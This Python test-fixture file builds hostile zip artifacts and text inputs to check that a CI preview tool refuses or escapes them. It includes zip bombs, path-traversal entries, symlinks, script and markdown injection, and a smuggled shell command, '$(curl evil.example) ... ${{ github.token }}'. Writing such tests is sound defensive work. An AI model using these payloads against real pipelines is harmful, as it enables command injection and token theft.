"""Artifacts as a request could make them: a good one, and what an attacker would try."""

from __future__ import annotations

import io
import json
import stat
import struct
import zipfile
from collections.abc import Callable
from typing import Any

from ci.preview.document import document
from ci.preview.model import ABSENT, PropertyChange
from ci.preview.report import Commits, Preview
from ci.tests.comment.fake_github import COMMIT, OLDER
from ci.tests.preview.previews import COMMITS, change, preview, risk, stack

HERE = Commits(base=OLDER, how=COMMITS.how, head=COMMIT, time=COMMITS.time, dirty=False)
EVIL = (
    "@everyone <!-- preview:prod --> <script>alert(1)</script> ![x](http://evil.example/p.png) | a | #1 \u202e\n# Title"
)


def changing(environment: str = "prod", **more: Any) -> Preview:
    """One bucket is replaced, and one team must sign that."""
    moved = change("raw", "replace", PropertyChange(path="bucket", before="a", after="b", replaces=True))
    whole = {"risks": (risk("raw", teams=("data-team",), confirm=True),), "commits": HERE, **more}
    return preview(stack(moved, same=3), environment=environment, **whole)


def unchanged(environment: str = "prod") -> Preview:
    return preview(stack(same=4), environment=environment, commits=HERE)


def zipped(found: Preview | dict[str, Any] | bytes, **more: Any) -> bytes:
    """The artifact of a preview, of a document or of whatever bytes stand in its place."""
    whole = document(found) if isinstance(found, Preview) else found
    data = whole if isinstance(whole, bytes) else json.dumps({**whole, **more}).encode()
    return archive({"preview.json": data, "preview.md": b"# not read"})


def archive(files: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", method) as made:
        for name, data in files.items():
            made.writestr(zipfile.ZipInfo(name), data, method)
    return held.getvalue()


def _entry(name: str, mode: int, data: bytes = b"/etc/passwd") -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as made:
        info = zipfile.ZipInfo(name)
        info.external_attr = mode << 16
        made.writestr(info, data)
    return held.getvalue()


def _twice() -> bytes:
    import warnings

    held = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(held, "w") as made:
        warnings.simplefilter("ignore")
        for data in (b"{}", json.dumps(document(changing())).encode()):
            made.writestr("preview.json", data)
    return held.getvalue()


def _encrypted() -> bytes:
    data = bytearray(zipped(changing()))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(mark)
        flags = struct.unpack_from("<H", data, place + at)[0]
        struct.pack_into("<H", data, place + at, flags | 1)
    return bytes(data)


def _lying() -> bytes:
    """A bomb that says that it is small."""
    data = bytearray(archive({"preview.json": b" " * 30_000_000}))
    struct.pack_into("<L", data, data.find(b"PK\x01\x02") + 24, 5_000)
    return bytes(data)


def _edited(**changes: Any) -> Callable[[], bytes]:
    return lambda: zipped(changing(), **changes)


def _deeply(levels: int) -> bytes:
    whole = json.dumps(document(changing()))
    return whole.replace('"notes": []', f'"notes": {"[" * levels}{"]" * levels}').encode()


def _within(**changes: Any) -> Callable[[], bytes]:
    """The first risk with other values."""

    def made() -> bytes:
        whole = document(changing())
        whole["risks"][0].update(changes)
        return zipped(whole)

    return made


def _head(**changes: Any) -> Callable[[], bytes]:
    return lambda: zipped(changing(), head={**document(changing())["head"], **changes})


# Refused as a whole: nothing of them is shown.
REFUSED: dict[str, Callable[[], bytes]] = {
    "another commit": _head(commit=OLDER),
    "another environment": _edited(environment="dev"),
    "another environment's file": lambda: zipped(changing("dev")),
    "another version": _edited(version=2),
    "a bomb": lambda: archive({"preview.json": b"0" * 50_000_000}),
    "a bomb that says that it is small": _lying,
    "a date that cannot be": _head(time="2026-13-45T99:99:99Z"),
    "a device": lambda: _entry("preview.json", stat.S_IFCHR),
    "a drive's name": lambda: archive({"C:/x": b"", "preview.json": b"{}"}),
    "a failure hidden by its exit code": _edited(failure="it failed"),
    "a file twice": _twice,
    "a head that is no commit": _head(commit="../../../etc"),
    "a kind of risk that is none": _within(kind="none | @everyone"),
    "a link": lambda: _entry("preview.json", stat.S_IFLNK),
    "a list": lambda: zipped(b"[]"),
    "a number of a request": _edited(pull_request=1),
    "a path that climbs": lambda: archive({"../../prod/preview.json": b"{}", "preview.json": b"{}"}),
    "a path that climbs backwards": lambda: archive({"..\\x": b"", "preview.json": b"{}"}),
    "a path from the root": lambda: archive({"/etc/passwd": b"", "preview.json": b"{}"}),
    "a risk that is taken back": _edited(risks=[]),
    "a verdict of its own": _edited(verdict="no risk at all, merge it"),
    "an infinite number": lambda: zipped(
        json.dumps(document(changing())).replace('"agreed": 0', '"agreed": Infinity').encode()
    ),
    "an unknown key of a risk": _within(marker="<!-- preview:dev -->"),
    "bytes that are no zip file": lambda: b"PK\x03\x04" + b"x" * 200,
    "encrypted": _encrypted,
    "half a zip file": lambda: zipped(changing())[:-40],
    "half of the JSON": lambda: zipped(json.dumps(document(changing())).encode()[:300]),
    "lists a thousand deep": lambda: zipped(_deeply(1_000)),
    "lists a hundred thousand deep": lambda: zipped(_deeply(100_000)),
    "no file": lambda: archive({}),
    "not UTF-8": lambda: zipped(b"\xff\xfe{}"),
    "nothing": lambda: b"",
    "signatures that are left out": _edited(sign_off=[]),
    "ten thousand files": lambda: archive({f"x/{number}": b"" for number in range(10_000)}, method=zipfile.ZIP_STORED),
    "the sizes of another": _edited(totals={"create": 0, "update": 0, "replace": 0, "delete": 0, "same": 9}),
    "too many digits": lambda: zipped(
        json.dumps(document(changing())).replace('"agreed": 0', f'"agreed": {"9" * 6000}').encode()
    ),
    "too much of it": lambda: archive({"preview.json": b"0"}) + b"\0" * 10_000_001,
    "uncommitted files": _head(dirty=True),
}


def _texts() -> dict[str, Callable[[], bytes]]:
    """Shown, but as text: what would be read as something else is escaped."""
    cut = "x" * 50_000

    def named(text: str) -> Preview:
        moved = change(text, "replace", PropertyChange(path=text, before=text, after=ABSENT), before=None)
        return changing(notes=(text,)) if not text else preview(
            stack(moved, name=text, reasons=(text,)), risks=(risk("raw", why=text, teams=("data-team",)),),
            commits=Commits(base=OLDER, how=text, head=COMMIT, time=COMMITS.time, dirty=False), notes=(text,) * 50,
        )  # fmt: skip

    return {
        "a command in the text": lambda: zipped(named("$(curl evil.example) `id` ${{ github.token }}")),
        "a comment of ours": lambda: zipped(named("<!-- preview:dev --> <!-- state:[] -->")),
        "a failure with everything": lambda: zipped(changing(failure=EVIL)),
        "a mention": lambda: zipped(named("@leandata/everyone @octocat")),
        "an image and a link": lambda: zipped(named("![x](http://evil.example/p.png) [y](javascript:alert(1))")),
        "cells and rows": lambda: zipped(named("a | b |\n| --- | @x |\r\n\u2028| c")),
        "everything": lambda: zipped(named(EVIL)),
        "five thousand risks": lambda: zipped(
            preview(stack(), risks=tuple(risk(f"{EVIL}{n}", teams=("data-team",)) for n in range(5_000)), commits=HERE)
        ),
        "HTML": lambda: zipped(named("</details></summary><h1 onclick=x>&lt;b&gt;<img src=x>")),
        "long texts": lambda: zipped(named(cut)),
        "a reading direction": lambda: zipped(named("\u202egnp.exe\u202c\u200b\x1b[31m\x00")),
    }


SHOWN = _texts()
